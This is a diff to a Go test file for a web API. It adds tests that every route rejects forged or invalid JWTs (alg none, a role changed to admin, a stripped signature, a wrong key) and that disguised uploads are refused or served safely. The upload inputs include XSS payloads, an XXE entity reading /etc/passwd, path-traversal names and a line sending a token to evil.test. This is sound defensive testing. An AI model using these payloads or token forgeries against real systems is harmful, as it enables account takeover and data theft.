@@ -7,7 +7,9 @@ package httpapi_test
 // docs/openapi.yaml, so that a new route without a case fails them.
 
 import (
+	"bytes"
 	"context"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -18,6 +20,7 @@ import (
 	"time"
 
 	"github.com/getkin/kin-openapi/openapi3"
+	"github.com/golang-jwt/jwt/v5"
 
 	"minxin/backend/internal/apitest"
 	"minxin/backend/internal/domain"
@@ -894,6 +897,146 @@ func TestSecurityInjectionStringsAreInert(t *testing.T) {
 		}
 		if checked < len(injections)*37 {
 			t.Errorf("only %d values were read back", checked)
+		}
+	})
+}
+
+// TestSecurityBadTokensOnEveryRoute: on every route of the route table, public ones included,
+// an Authorization header that is there but bad — expired, alg none, HS512, another key,
+// another audience, another issuer, a changed payload, no signature, a refresh token, Basic
+// credentials — answers 401 and changes nothing.
+func TestSecurityBadTokensOnEveryRoute(t *testing.T) {
+	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
+		villager := env.User(domain.RoleVillager, "")
+		good := env.Token(villager)
+		now := env.Clock.Now()
+		claims := func(change func(jwt.MapClaims)) jwt.MapClaims {
+			c := jwt.MapClaims{"iss": "minxin", "aud": "minxin-api", "sub": villager.ID, "role": "admin",
+				"exp": now.Add(time.Hour).Unix(), "iat": now.Unix(), "jti": domain.NewID()}
+			if change != nil {
+				change(c)
+			}
+			return c
+		}
+		sign := func(m jwt.SigningMethod, key any, c jwt.MapClaims) string {
+			s, err := jwt.NewWithClaims(m, c).SignedString(key)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return s
+		}
+		parts := strings.Split(good, ".")
+		payload, _ := base64.RawURLEncoding.DecodeString(parts[1])
+		promoted := base64.RawURLEncoding.EncodeToString([]byte(strings.Replace(string(payload), `"villager"`, `"admin"`, 1)))
+		refresh := login(t, env, villager.Username)["refresh_token"].(string)
+		bad := map[string]string{
+			"expired":          "Bearer " + sign(jwt.SigningMethodHS256, env.Secret, claims(func(c jwt.MapClaims) { c["exp"] = now.Add(-time.Minute).Unix() })),
+			"alg none":         "Bearer " + sign(jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, claims(nil)),
+			"HS512":            "Bearer " + sign(jwt.SigningMethodHS512, env.Secret, claims(nil)),
+			"another key":      "Bearer " + sign(jwt.SigningMethodHS256, []byte(strings.Repeat("x", 32)), claims(nil)),
+			"another audience": "Bearer " + sign(jwt.SigningMethodHS256, env.Secret, claims(func(c jwt.MapClaims) { c["aud"] = "another-api" })),
+			"another issuer":   "Bearer " + sign(jwt.SigningMethodHS256, env.Secret, claims(func(c jwt.MapClaims) { c["iss"] = "someone" })),
+			"role promoted":    "Bearer " + parts[0] + "." + promoted + "." + parts[2],
+			"no signature":     "Bearer " + parts[0] + "." + parts[1] + ".",
+			"refresh token":    "Bearer " + refresh,
+			"empty":            "Bearer ",
+			"basic":            "Basic " + base64.StdEncoding.EncodeToString([]byte(villager.Username+":"+apitest.Password)),
+		}
+		logBefore := logCount(t, env)
+		tried := 0
+		for _, route := range env.Server.Routes() {
+			var body any
+			if route.Method != http.MethodGet && route.Method != http.MethodDelete {
+				body = "{}"
+			}
+			for name, header := range bad {
+				r := env.Do(apitest.Request{Method: route.Method, Path: concrete(route.Path), Body: body, Header: map[string]string{"Authorization": header}})
+				tried++
+				if code := r.Code(); r.Status != http.StatusUnauthorized || (code != "invalid_token" && code != "token_expired") {
+					t.Errorf("%s with %s: %d %s", routeKey(route), name, r.Status, r.Body)
+				}
+			}
+		}
+		if r := env.Post("/api/v1/auth/refresh", "", map[string]string{"refresh_token": good}); r.Status != http.StatusUnauthorized {
+			t.Errorf("an access token as a refresh token: %d %s", r.Status, r.Body)
+		}
+		if tried < 70*len(bad) {
+			t.Errorf("only %d requests were tried", tried)
+		}
+		if n := logCount(t, env); n != logBefore {
+			t.Errorf("bad tokens wrote %d activity-log entries", n-logBefore)
+		}
+	})
+}
+
+// TestSecurityLyingUploads: files declared image/jpeg (and named .jpg) whose bytes are
+// something else. What is not a JPEG, PNG or PDF by its content — HTML, script, SVG, XML, a
+// zip, a GIF, an executable, nothing — is refused naming the part and leaves nothing behind.
+// What is kept is served with the type its content has, never the declared one, with nosniff
+// and a sandboxing CSP, a PDF as a download, under a name the server makes.
+func TestSecurityLyingUploads(t *testing.T) {
+	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
+		town := env.Township("甲镇", seatLat, seatLng)
+		tok := env.Token(env.User(domain.RoleOfficial, town.ID, "team_member"))
+		admin := env.Token(env.User(domain.RoleAdmin, ""))
+		logBefore := logCount(t, env)
+		refused := map[string][]byte{
+			"HTML":                 []byte("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
+			"HTML after blanks":    []byte("\n\t  <html><script>alert(1)</script>"),
+			"script":               []byte("alert(document.cookie);fetch('//evil.test/'+localStorage.token)"),
+			"SVG":                  []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`),
+			"XML":                  []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`),
+			"zip":                  append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), bytes.Repeat([]byte{0}, 64)...),
+			"GIF":                  append([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00"), bytes.Repeat([]byte{0}, 32)...),
+			"executable":           append([]byte("MZ\x90\x00\x03\x00\x00\x00"), bytes.Repeat([]byte{0}, 64)...),
+			"empty":                {},
+			"JPEG magic then HTML": append([]byte{0xFF, 0xD8, 0xFF, 0xE0}, []byte("<html><script>alert(1)</script></html>")...),
+		}
+		for name, content := range refused {
+			for _, who := range []string{tok, ""} {
+				r := upload(t, env, who, "photo.jpg", "image/jpeg", content)
+				if r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"field":"file"`) {
+					t.Errorf("%s declared image/jpeg: %d %s", name, r.Status, r.Body)
+				}
+			}
+		}
+		if files := keptFiles(t, env); len(files) != 0 {
+			t.Errorf("refused uploads left files: %v", files)
+		}
+		if n := logCount(t, env); n != logBefore {
+			t.Errorf("refused uploads wrote %d activity-log entries", n-logBefore)
+		}
+
+		kept := []struct {
+			name, filename, want string
+			content              []byte
+		}{
+			{"a PNG with HTML after its end", "x.jpg", "image/png", append(tinyPNG(t, 50), []byte("<html><script>alert(1)</script></html>")...)},
+			{"a PDF with a script", "x.jpg", "application/pdf", append(tinyPDF(), []byte("<</S/JavaScript/JS(app.alert(1))>>\n")...)},
+			{"a PNG named for a path", "../../../../etc/passwd", "image/png", tinyPNG(t, 51)},
+			{"a PNG named like markup", `"><script>alert(1)</script>.jpg`, "image/png", tinyPNG(t, 52)},
+		}
+		for _, c := range kept {
+			r := upload(t, env, tok, c.filename, "image/jpeg", c.content)
+			if r.Status != http.StatusCreated || r.Map(t)["content_type"] != c.want {
+				t.Fatalf("%s: %d %s", c.name, r.Status, r.Body)
+			}
+			id := r.Map(t)["id"].(string)
+			d := env.Get("/api/v1/attachments/"+id, admin)
+			h := d.Header
+			if d.Status != http.StatusOK || !bytes.Equal(d.Body, c.content) || h.Get("Content-Type") != c.want {
+				t.Errorf("%s download: %d %q", c.name, d.Status, h.Get("Content-Type"))
+			}
+			if h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
+				t.Errorf("%s download: nosniff %q, CSP %q", c.name, h.Get("X-Content-Type-Options"), h.Get("Content-Security-Policy"))
+			}
+			disposition := h.Get("Content-Disposition")
+			if c.want == "application/pdf" && !strings.HasPrefix(disposition, "attachment;") {
+				t.Errorf("%s is not served as a download: %q", c.name, disposition)
+			}
+			if !strings.Contains(disposition, `filename="`+id+".") || strings.Contains(disposition, "..") || strings.Contains(disposition, "<") {
+				t.Errorf("%s download names the file %q", c.name, disposition)
+			}
 		}
 	})
 }
